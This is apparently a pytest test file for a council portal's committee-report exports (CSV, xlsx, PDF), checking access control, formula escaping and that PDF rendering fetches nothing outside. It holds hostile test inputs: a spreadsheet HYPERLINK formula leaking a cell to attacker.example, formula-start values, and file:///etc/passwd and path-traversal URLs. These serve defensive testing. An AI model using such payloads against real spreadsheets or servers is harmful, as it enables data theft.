"""The committee-report exports: a PDF read back with pdftotext, xlsx read back with openpyxl, CSV parsed back."""

import csv
import io
import shutil
import subprocess
import threading
from datetime import date
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from openpyxl import load_workbook

from portal.accounts.models import Role
from portal.common.time import format_date, utcnow
from portal.extensions import db
from portal.selfassessment import evidence, export
from portal.selfassessment.models import Action, ActionStatus, AssessmentStatus
from portal.training.matrix import FORMULA_STARTS
from tests.selfassessment.factories_evidence import assessment_by, audit_actions, statement_with

INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def officer_client(client_as):
    return client_as(Role.OFFICER, name="Olu Officer")


@pytest.fixture
def scored(officer_client):
    """An assessment scored 2, 1, 0 in turn, with evidence, links, a gathered figure and an action on 1.3."""
    officer = officer_client.user
    assessment = assessment_by(officer, title="2026/27")
    for position, statement in enumerate(assessment.statements):
        statement.score = (2, 1, 0)[position % 3]
        statement.evidence = f"Evidence for {statement.key}"
    statement = statement_with(assessment, "1.3", "champions.appointed")
    statement.evidence = INJECTED
    statement.links = ["https://intranet.example/champions", "@SUM(1+1)"]
    evidence.attach(statement, "champions.appointed", by=officer)
    statement.actions.append(
        Action(
            what="+Appoint a champion", owner_id=officer.id, due_on=date(2027, 3, 31), status=ActionStatus.IN_PROGRESS
        )
    )
    db.session.commit()
    return assessment


def statement_13(assessment):
    return next(statement for statement in assessment.statements if statement.key == "1.3")


def download(client, assessment, extension: str):
    response = client.get(f"/self-assessment/{assessment.id}/assessment.{extension}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == f'attachment; filename="self-assessment-2026-27.{extension}"'
    assert audit_actions()[-1] == "assessment.exported"
    return response


# ---- CSV -----------------------------------------------------------------------------------------------


def test_the_csv_has_one_row_per_statement_with_everything_about_it(officer_client, scored):
    response = download(officer_client, scored, "csv")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))

    assert rows[0] == export.HEADINGS
    assert len(rows) == 1 + len(scored.statements)
    by_key = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    first = by_key["1.1"]
    assert first["Principle"] == "1. " + scored.statements[0].principle_title
    assert first["Statement"] == scored.statements[0].text
    assert (first["Score"], first["Score label"], first["Evidence"]) == (
        "2",
        "Comprehensive implementation",
        "Evidence for 1.1",
    )
    row = by_key["1.3"]
    assert row["Attached evidence"] == (
        "Safety champions appointed: None appointed (Champions, as of " + format_date(date.today()) + ")"
    )
    assert row["Actions"] == "'+Appoint a champion (Olu Officer; due 31 March 2027; In progress)"


def test_the_csv_never_starts_a_cell_with_a_formula(officer_client, scored):
    rows = list(csv.reader(io.StringIO(download(officer_client, scored, "csv").data.decode("utf-8-sig"))))
    row = next(row for row in rows if row[1] == "1.3")
    assert row[5] == "'" + INJECTED
    assert row[6] == "https://intranet.example/champions\n@SUM(1+1)"  # a cell starting with https is safe
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_an_unscored_statement_is_said_so(officer_client, scored):
    statement_13(scored).score = None
    db.session.commit()
    rows = list(csv.reader(io.StringIO(download(officer_client, scored, "csv").data.decode("utf-8-sig"))))
    row = next(row for row in rows if row[1] == "1.3")
    assert (row[3], row[4]) == ("", "Not scored yet")


# ---- xlsx ----------------------------------------------------------------------------------------------


def test_the_spreadsheet_holds_the_totals_and_every_statement(officer_client, scored):
    response = download(officer_client, scored, "xlsx")
    assert response.mimetype == export.XLSX_TYPE
    workbook = load_workbook(io.BytesIO(response.data))

    summary = [list(row) for row in workbook["Summary"].iter_rows(values_only=True)]
    assert summary[0][0] == "Your council: self-assessment 2026/27"
    assert summary[1] == ["Status", "Draft: not yet finalised", None]
    whole = export.scoring.totals(scored)
    assert summary[-1] == ["Whole assessment", whole.score, 50]
    assert summary[5] == ["1. " + whole.principles[0].title, whole.principles[0].score, 10]

    statements = list(workbook["Statements"].iter_rows(values_only=True))
    assert list(statements[0]) == export.HEADINGS
    assert len(statements) == 1 + len(scored.statements)
    row = next(row for row in statements if row[1] == "1.3")
    assert row[3] == 0 and row[4] == "Not addressed"
    assert "Safety champions appointed: None appointed" in row[7]


def test_the_spreadsheet_stores_injected_formulas_as_text(officer_client, scored):
    workbook = load_workbook(io.BytesIO(download(officer_client, scored, "xlsx").data))
    sheet = workbook["Statements"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    evidence_cell = next(row[5] for row in sheet.iter_rows() if row[1].value == "1.3")
    assert evidence_cell.value == "'" + INJECTED and evidence_cell.data_type == "s"


# ---- PDF -----------------------------------------------------------------------------------------------


def pdf_text(data: bytes, tmp_path) -> str:
    assert shutil.which("pdftotext"), "pdftotext is missing: scripts/install-system-packages.sh installs it"
    path = tmp_path / "assessment.pdf"
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True).stdout


def squeezed(text: str) -> str:
    return " ".join(text.split())


def test_the_pdf_is_the_whole_assessment_for_a_committee(officer_client, scored, tmp_path):
    response = download(officer_client, scored, "pdf")
    assert response.mimetype == "application/pdf" and response.data.startswith(b"%PDF")

    text = squeezed(pdf_text(response.data, tmp_path))

    whole = export.scoring.totals(scored)
    assert f"Whole assessment: {whole.score} out of 50" in text
    assert "Councillor safety self-assessment 2026/27" in text and "Draft: not yet finalised" in text
    for principle in whole.principles:
        assert f"Principle {principle.number}: {principle.title}" in text
        assert f"Principle {principle.number} {principle.score} out of 10" in text  # the chart's bar
    for statement in scored.statements:
        assert squeezed(f"{statement.key} {statement.text}") in text
    assert "Score: Comprehensive implementation (2 out of 2)" in text
    assert INJECTED in text and "https://intranet.example/champions" in text
    assert "Safety champions appointed: None appointed (Champions, as of" in text
    assert "+Appoint a champion Olu Officer 31 March 2027 In progress" in text


def test_a_finalised_assessment_prints_as_finalised(officer_client, scored):
    scored.status = AssessmentStatus.FINALISED
    scored.finalised_at = utcnow()
    db.session.commit()
    html = export.assessment_html(scored)
    assert f"Finalised on {format_date(date.today())}" in html and "This is a draft" not in html


# ---- who may export, and nothing fetched -----------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.COUNCILLOR, Role.ADMIN, Role.CHAMPION])
@pytest.mark.parametrize("extension", ["pdf", "xlsx", "csv"])
def test_only_officers_export(client_as, make_user, role, extension):
    assessment = assessment_by(make_user(Role.OFFICER))
    db.session.commit()
    client = client_as(role)
    assert client.get(f"/self-assessment/{assessment.id}/assessment.{extension}").status_code == 403
    assert "assessment.exported" not in audit_actions()


def test_exporting_a_missing_assessment_is_not_found(officer_client):
    assert officer_client.get("/self-assessment/999/assessment.pdf").status_code == 404


class _Recorder(BaseHTTPRequestHandler):
    requests: list[str] = []  # noqa: RUF012 (one server per test)

    def do_GET(self):
        _Recorder.requests.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def recording_server():
    _Recorder.requests = []
    server = HTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_printing_fetches_nothing_from_the_network(app_context, recording_server):
    from weasyprint import HTML

    page = f'<img src="{recording_server}/tracker.png"><link rel="stylesheet" href="{recording_server}/a.css">'
    HTML(string=page, url_fetcher=export.fetch_nothing_outside).render()
    assert _Recorder.requests == []
    HTML(string=page).render()  # the library's own fetcher would have gone out: the check above can fail
    assert _Recorder.requests


def test_the_fetcher_allows_only_data_urls_and_our_own_static_files(app_context):
    with pytest.raises(export.FetchRefused):
        export.fetch_nothing_outside("file:///etc/passwd")
    with pytest.raises(export.FetchRefused):
        export.fetch_nothing_outside(export._static_folder().as_uri() + "/../../config.py")
    fetched = export.fetch_nothing_outside("data:text/plain;base64,aGk=")
    assert (fetched["string"] if "string" in fetched else fetched["file_obj"].read()) == b"hi"
    static_file = next(path for path in export._static_folder().rglob("*") if path.is_file())
    assert export.fetch_nothing_outside(static_file.as_uri())["string"] == static_file.read_bytes()


def test_filenames_are_made_of_the_title():
    class Titled:
        id = 7

        def __init__(self, title):
            self.title = title

    assert export.filename(Titled("2026/27"), "pdf") == "self-assessment-2026-27.pdf"
    assert (
        export.filename(Titled("Mid-year review: Autumn 2026"), "csv")
        == "self-assessment-mid-year-review-autumn-2026.csv"
    )
    assert export.filename(Titled("///"), "xlsx") == "self-assessment-7.xlsx"
